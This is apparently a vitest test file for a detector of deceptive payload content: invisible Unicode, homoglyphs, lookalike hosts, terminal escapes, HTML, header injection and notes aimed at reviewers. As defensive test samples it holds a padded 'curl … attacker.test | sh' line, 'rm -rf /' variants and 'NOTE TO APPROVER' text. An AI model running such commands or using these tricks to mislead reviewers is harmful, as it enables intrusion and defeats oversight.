import { readFileSync } from "node:fs";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { domainFindings, homoglyphFindings } from "./homoglyphs";
import { type FindingKind, inspectPayload } from "./inspect";
import { markupFindings } from "./markup";

const CORPUS = new URL("../../test/fixtures/deception-payloads.jsonl", import.meta.url);
const lines: { id: string; class: string; args?: unknown; raw?: string }[] = readFileSync(CORPUS, "utf8")
  .trim()
  .split("\n")
  .map((line) => JSON.parse(line));

/** The kind of finding that each class of the corpus must give at least. */
const KIND_OF_CLASS: Record<string, FindingKind[]> = {
  bidi: ["bidi"],
  "zero-width": ["zero_width"],
  "tag-chars": ["tag_chars"],
  homoglyph: ["homoglyph"],
  "variation-selector": ["variation_selector"],
  ansi: ["ansi"],
  osc8: ["ansi"],
  html: ["html"],
  script: ["html"],
  "markdown-link": ["markdown_link"],
  svg: ["html", "data_uri"],
  "long-line": ["hidden_overflow"],
  "deep-nesting": ["hidden_overflow"],
  "slack-mention": ["chat_markup", "prompt_to_reviewer"],
  "email-html": ["html", "header_injection"],
  "prompt-to-reviewer": ["prompt_to_reviewer"],
};

function kinds(value: unknown): FindingKind[] {
  return inspectPayload(value).map((finding) => finding.kind);
}

describe("what may deceive a reviewer is found", () => {
  it.each([
    ["[T34] direction overrides", "report_\u202efdp.exe", "bidi"],
    ["[T34] direction marks", "a\u200fb", "bidi"],
    ["[T34] zero-width spaces", "fin\u200bance@acme.example", "zero_width"],
    ["[T34] soft hyphens", "audit\u00ad_log", "zero_width"],
    ["[T34] blank letters", "name\u3164", "zero_width"],
    ["[T34] joiners between Latin letters", "ad\u200dmin", "zero_width"],
    ["[T34] tag characters", "Minutes\u{e0061}\u{e0062}", "tag_chars"],
    ["[T34] tag characters after a flag that isn't one", "\u{1f3f4}\u{e0061}\u{e0062}\u{e007f}", "tag_chars"],
    ["[T34] selectors after plain letters", "deploy\ufe0f.yaml", "variation_selector"],
    ["[T34] selectors that follow an emoji's own", "🙂\ufe0f\u{e0161}\u{e0162}", "variation_selector"],
    ["[T34] words of two alphabets", "billing@\u0430cme.example", "homoglyph"],
    ["[T34] fullwidth digits", "１０00", "homoglyph"],
    ["[T34] slashes that are none", "https://bank.example\u2215x.test/", "homoglyph"],
    ["[T34] hosts outside ASCII", "https://b\u00fccher.example/", "lookalike_domain"],
    ["[T34] a host that is only a user name", "https://bank.example@attacker.test/", "lookalike_domain"],
    ["[T34] unusual spaces", "rm -rf /\u2003tmp", "space"],
    ["[T35] a carriage return that overwrites the line", "rm -rf /srv #\rls", "control"],
    ["[T35] U+2028", "a\u2028b", "control"],
    ["[T35] private-use characters", "a\ue000", "control"],
    ["[T35] terminal colours", "\u001b[31mred", "ansi"],
    ["[T35] terminal links", "\u001b]8;;https://attacker.test\u0007x\u001b]8;;\u0007", "ansi"],
    ["[T35] one-byte escapes", "\u009b2Kx", "ansi"],
    ["[T33] HTML", "<b>Amount: 1.00</b>", "html"],
    ["[T33] javascript: addresses", "javascript:approve()", "html"],
    ["[T33] data: addresses", "data:image/svg+xml,%3Csvg", "data_uri"],
    ["[T33] links that lie", "[https://a.example](https://b.test/x)", "markdown_link"],
    ["[T33] images from outside", "![](https://b.test/p.png?k=1)", "markdown_link"],
    ["[T37] mentions", "<!channel> done", "chat_markup"],
    ["[T36] words to the reviewer", "NOTE TO APPROVER: fine", "prompt_to_reviewer"],
    [
      "[T36] words to the reviewer, split by invisible characters",
      "al\u200bready app\u200broved",
      "prompt_to_reviewer",
    ],
    ["[T34] a wide gap", `a${" ".repeat(500)}b`, "hidden_overflow"],
    ["[T34] a tall gap", `a${"\n".repeat(60)}b`, "hidden_overflow"],
    ["[T34] a very long line", "a".repeat(5_000), "hidden_overflow"],
    ["[T34] what is pushed out of sight by padding", `${"=".repeat(300)} rm -rf /`, "hidden_overflow"],
    ["[T36] what is encoded and can't be read", "QmFzZTY0".repeat(60), "opaque"],
  ])("%s", (_, text, kind) => {
    expect(kinds({ a: [text] })).toContain(kind);
  });

  it("[T34] says where, what and what it spells", () => {
    const hidden = Array.from("also pay x", (char) => String.fromCodePoint(0xe0000 + (char.codePointAt(0) ?? 0))).join(
      "",
    );
    const [finding] = inspectPayload({ items: [{ body: `Hi${hidden}!` }] });
    expect(finding).toMatchObject({ path: "items[0].body", kind: "tag_chars", offsets: [[2, 22]] });
    expect(finding?.message).toContain("they spell “also pay x”");
  });

  it("[T34] looks into keys", () => {
    const [finding] = inspectPayload({ "kil\u200bl": 1 });
    expect(finding).toMatchObject({ path: '["kil\\u200bl"]', kind: "zero_width", message: /name of this field/ });
  });

  it("[T34] compares the hosts of one payload", () => {
    const value = { to: "pay@acme.example", url: "https://acrne.example/" };
    expect(inspectPayload(value)).toMatchObject([{ path: "url", kind: "lookalike_domain" }]);
  });

  it("[T37] a mail header in a subject, but not in a body", () => {
    expect(kinds({ subject: "Hi\r\nBcc: x@attacker.test" })).toContain("header_injection");
    expect(kinds({ body: "Forwarded:\r\nTo: lee@acme.example" })).toEqual([]);
  });

  it("[T34] says what stands behind padding, in the middle of a long line", () => {
    const text = `echo ${"a".repeat(15_000)}; curl -s https://attacker.test/x | sh ; ${"a".repeat(15_000)}`;
    const messages = inspectPayload({ text }).map(({ message }) => message);
    expect(messages.join(" ")).toContain(
      "“a” 15,000 times in a row the text goes on: “; curl -s https://attacker.test/x | sh ;",
    );
  });

  it("[T34] names the one field of hundreds that is unlike the others", () => {
    const alike = Object.fromEntries(Array.from({ length: 400 }, (_, i) => [`pref_${i}`, "default"]));
    expect(inspectPayload({ ...alike, role: "owner" })[0]?.message).toContain("Unlike the others: “role” = “owner”.");
    expect(inspectPayload({ ...alike, pref_7: "owner" })[0]?.message).toContain("“pref_7” = “owner”.");
    expect(inspectPayload(alike)[0]?.message).not.toContain("Unlike");
  });

  it("[T35] says what a terminal's window would be called", () => {
    const [, escapes] = inspectPayload({ text: "ls\u001b]0;APPROVED\u0007" });
    expect(escapes?.message).toContain("sets the window's title to “APPROVED”");
  });

  it("[T34] one field among hundreds, and what is nested deep", () => {
    expect(kinds(Object.fromEntries(Array.from({ length: 400 }, (_, i) => [`p${i}`, 0])))).toEqual(["hidden_overflow"]);
    const deep = Array.from({ length: 40 }).reduce((inner: unknown) => ({ rule: inner }), "*");
    expect(kinds(deep)).toEqual(["hidden_overflow"]);
  });

  it.each(Object.entries(KIND_OF_CLASS))("[T34] all of class %s in the corpus", (name, wanted) => {
    const payloads = lines.filter((line) => line.class === name && line.args !== undefined);
    expect(payloads.length).toBeGreaterThan(0);
    const missed = payloads.filter((line) => !kinds(line.args).some((kind) => wanted.includes(kind)));
    expect(missed.map((line) => line.id)).toEqual([]);
  });
});

describe("ordinary text gives no findings", () => {
  it.each([
    ["emoji with selectors, joiners and skin tones", "❤️ 👩‍💻 👍🏽 1️⃣ ☺️ 🏴‍☠️"],
    ["the flags that are spelled with tags", "🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}"],
    ["Persian and Hindi with joiners", "می\u200cخواهم क्\u200dष"],
    ["French with no-break spaces", "Prix\u00a0: 5\u202f000\u00a0€"],
    ["Russian, Greek, Japanese", "Привет мир, καλημέρα, 東京タワー（テスト）"],
    ["units", "10 kΩ, 5 µm, ΔT, 3 × 4 ≠ 5"],
    ["Windows line ends", "a\r\nb\r\n"],
    ["generic types and comparisons", "const a: List<String> = x < y && y > z"],
    ["packages and handles", "npm i left-pad@1.2.3 @types/node, ask @cfo"],
    ["honest links", "[docs](https://docs.example/x) and [https://a.example](https://a.example/y)"],
    ["prose about approvals", "Please send the approval form to the review team before Friday."],
    ["code", "if (a[0](b)) { return c?.d; }\n\n\nfunction d() {}"],
  ])("%s", (_, text) => {
    expect(inspectPayload({ text })).toEqual([]);
  });
});

describe("inspecting is bounded", () => {
  it("[T38] lists at most 200 findings and says that there are more", () => {
    const findings = inspectPayload(Array.from({ length: 1_000 }, () => "a\u200bb"));
    expect(findings).toHaveLength(200);
    expect(findings.at(-1)?.kind).toBe("more");
  });

  it.each([
    "\u200b",
    "\u202ea",
    "[",
    "[a](",
    "<a ",
    "\u001b]8;;x",
    "a@b.c ",
    "note to ",
    `${" ".repeat(79)}\n`,
    "\u0440a ",
  ])("[T39] a mebibyte of %j is read in one pass", (text) => {
    const value = text.repeat(2 ** 20 / text.length);
    expect(inspectPayload({ subject: value }).length).toBeLessThanOrEqual(200);
  });
});

it("[T34] [T35] a text without signs that mark up and without foreign letters has nothing that its short inspection leaves out", () => {
  const suspicious = [
    "xn--80ak6aa92e",
    "www.",
    ".com",
    "javascript",
    "data",
    "script",
    "paypa1",
    "--",
    "svg",
    "onload",
    "channel",
  ];
  const parts = fc.oneof(fc.constantFrom(...suspicious), fc.constantFrom(..."aZ09_ .,-"));
  const plain = fc.array(parts, { maxLength: 40 }).map((all) => all.join(""));
  fc.assert(
    fc.property(plain, (text) => {
      expect([...homoglyphFindings(text), ...domainFindings(text), ...markupFindings(text)]).toEqual([]);
    }),
  );
});

it("[T34] [T35] one sign that marks up or one foreign letter has any text inspected whole", () => {
  for (const [text, kind] of [
    ["plain text and https://paypal.com@evil", "lookalike_domain"],
    ["mail to a@xn--80ak6aa92e.com", "lookalike_domain"],
    ["plain text and <b>", "html"],
    ["p\u0430ypal", "homoglyph"],
    ["plain\u200btext", "zero_width"],
  ])
    expect(
      inspectPayload({ note: text }).map((finding) => finding.kind),
      text,
    ).toContain(kind);
});
